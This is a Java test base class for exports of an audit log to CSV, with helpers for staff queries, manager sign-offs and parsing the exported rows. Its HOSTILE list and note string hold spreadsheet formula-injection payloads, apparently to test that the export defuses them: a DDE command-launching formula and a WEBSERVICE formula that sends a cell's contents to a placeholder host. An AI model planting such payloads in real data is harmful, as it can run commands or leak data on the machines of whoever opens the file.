package jp.ward.guard.story;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.List;
import jp.ward.guard.testing.Api;
import jp.ward.guard.testing.Question;
import jp.ward.guard.testing.QuotedCsv;

/**
 * What the stories of exports share: who asked under which id, what was signed off, who exports.
 */
abstract class ExportStory extends HandoverStory {

  static final String EXPORT = "/api/v1/audit/export";
  static final String SPAN = "?from=" + TODAY.minusDays(1) + "&until=" + TODAY;

  /** What spreadsheets run, as a member of staff could have himself named. */
  static final List<String> HOSTILE =
      List.of(
          "=cmd|'/C+calc'!A0",
          "+1",
          "-2+3",
          "@SUM(1)",
          "＝１＋１",
          "=HYPERLINK(\"http://example.invalid/\",\"ここ\")");

  static final String HOSTILE_NOTE = "=WEBSERVICE(\"http://example.invalid/\"&A1)を確かめた";

  static RequestSpecification managerOf(String office) {
    return Api.by("m-export-" + office, office, "manager");
  }

  static RequestSpecification auditor() {
    return Api.by("a-export", "14101-civil", "auditor");
  }

  int asked(String upn, String office) {
    Response answer =
        Api.by(upn, office, "staff")
            .body(
                Question.sound()
                    .with("/about/0/identifiers", "[" + atB(number) + "]")
                    .with("/recipient/identifiers", "[" + atB(him) + "]")
                    .toString())
            .post(CHECKS);
    assertEquals(200, answer.statusCode(), answer.asString());
    return answer.path("receipt.entry");
  }

  static void signedOff(RequestSpecification manager, int entry, String note) {
    String body = "{\"note\":\"" + note.replace("\"", "\\\"") + "\"}";
    Response signed = manager.body(body).post("/api/v1/audit/entries/" + entry + "/reviews");
    assertEquals(200, signed.statusCode(), signed.asString());
  }

  static Response export(RequestSpecification reader, String query) {
    return reader.get(EXPORT + query);
  }

  static Response exported(RequestSpecification reader, String query) {
    Response file = export(reader, query);
    assertEquals(200, file.statusCode(), file.asString());
    return file;
  }

  static List<List<String>> rows(Response file) {
    return QuotedCsv.rows(file.asByteArray());
  }

  /** The cells below a heading. */
  static List<String> column(List<List<String>> rows, String heading) {
    int index = rows.get(0).indexOf(heading);
    return rows.stream().skip(1).map(row -> row.get(index)).toList();
  }

  static String cell(List<List<String>> rows, int entry, String heading) {
    int row = column(rows, "記録番号").indexOf(Integer.toString(entry));
    return column(rows, heading).get(row);
  }
}
